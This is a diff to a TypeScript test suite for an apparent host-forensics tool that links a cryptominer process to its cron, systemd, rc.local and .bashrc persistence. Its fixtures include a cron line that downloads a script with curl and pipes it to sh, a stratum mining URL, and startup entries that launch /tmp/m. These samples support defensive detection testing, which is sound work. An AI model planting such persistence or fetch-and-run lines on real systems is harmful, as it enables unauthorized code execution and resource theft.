@@ -12,6 +12,8 @@ import {
   process,
   socket,
 } from '../../../test/shared/snapshots.ts';
+import type { Written } from '../../../test/shared/written.ts';
+import { surveyed } from '../../../test/shared/written.ts';
 import { show } from '../../show.ts';
 import type { PersistenceEntry, Snapshot } from '../../snapshot.ts';
 import { judge } from '../index.ts';
@@ -22,7 +24,7 @@ const linksOf = (snapshot: Snapshot) => judge(snapshot, labContext).links;
 const MINER = 'stratum+tcp://198.51.100.7:3333';
 
 /** A confirmed miner, pid 900, among the clean host's programs. */
-function host(miner: Partial<ProcessInput>, more: Partial<Snapshot> = {}): Snapshot {
+function host(miner: Partial<ProcessInput>, more: Written<Partial<Snapshot>> = {}): Snapshot {
   const clean = cleanSnapshot();
   const exe = miner.exe ?? '/tmp/m';
   return cleanSnapshot({
@@ -49,9 +51,9 @@ const ticked = (snapshot: Snapshot) => {
 };
 const entry = (kind: PersistenceEntry['kind'], path: string, text: string): PersistenceEntry => ({
   kind,
-  path,
+  path: show(path),
   identity: identityOf(path, text.length),
-  text,
+  text: show(text),
   sha256: null,
   truncated: false,
 });
@@ -188,7 +190,7 @@ it('a miner script under a copy of the shop’s own interpreter: the script is t
     { processes: [shop], files: [file('/tmp/.x/m.py', '#!/usr/bin/env python3\nimport socket\n')] },
   );
   expect(ticked(snapshot)).toMatchObject({ processes: [900], files: ['/tmp/.x/m.py'] });
-  expect(linksOf(snapshot).files.some((f) => f.path.startsWith('/opt/shop'))).toBe(false);
+  expect(linksOf(snapshot).files.some((f) => /^\/opt\/shop/.test(f.path))).toBe(false);
 });
 
 describe('cron', () => {
@@ -217,7 +219,7 @@ describe('cron', () => {
   });
   it('one that asks for the miner first is linked by that; a name that others bear links nothing', () => {
     const asks = '* * * * * pgrep -f m4x >/dev/null || curl -fsSL https://cdn.example/x | sh';
-    const of = (more: Partial<Snapshot> = {}) =>
+    const of = (more: Written<Partial<Snapshot>> = {}) =>
       linksOf(host({ exe: '/tmp/m4x' }, { cronFiles: lines(asks), ...more })).cronLines;
     expect(of()).toMatchObject([{ selected: true, linked: true }]);
     expect(of({ processes: [process({ pid: 901, exe: '/opt/app/m4x' })] })).toMatchObject([
@@ -257,9 +259,9 @@ describe('other starters', () => {
     linksOf(host({}, { persistence })).persistence.map((p) => [p.path, p.selected]);
   it('a unit or an rc line that ends with the path is linked', () => {
     expect(
-      of(entry('systemd-unit', '/etc/systemd/system/a.service', '[Service]\\u{a}ExecStart=/tmp/m\\u{a}')),
+      of(entry('systemd-unit', '/etc/systemd/system/a.service', '[Service]\nExecStart=/tmp/m\n')),
     ).toEqual([['/etc/systemd/system/a.service', true]]);
-    expect(of(entry('rc', '/etc/rc.local', '#!/bin/sh\\u{a}/tmp/m\\u{a}exit 0\\u{a}'))).toEqual([
+    expect(of(entry('rc', '/etc/rc.local', '#!/bin/sh\n/tmp/m\nexit 0\n'))).toEqual([
       ['/etc/rc.local', true],
     ]);
     expect(of(entry('profile', '/root/.bashrc', 'nohup ~/../tmp/m >/dev/null 2>&1 &'))).toEqual([
@@ -397,9 +399,9 @@ describe('texts are read as the host has them', () => {
     const of = (line: string) => {
       const snapshot = host(
         { exe: `${home}/.local/m` },
-        { persistence: [entry('systemd-unit', unit, show(`[Service]\nExecStart=${line}\n`))] },
+        { persistence: [entry('systemd-unit', unit, `[Service]\nExecStart=${line}\n`)] },
       );
-      return ticked({ ...snapshot, host: { ...snapshot.host, accounts } }).starters;
+      return ticked(surveyed<Snapshot>({ ...snapshot, host: { ...snapshot.host, accounts } })).starters;
     };
     expect(of('%h/.local/m')).toEqual([unit]);
     expect(of('/bin/sh -c "exec %h/.local/%%/../m"')).toEqual([unit]);
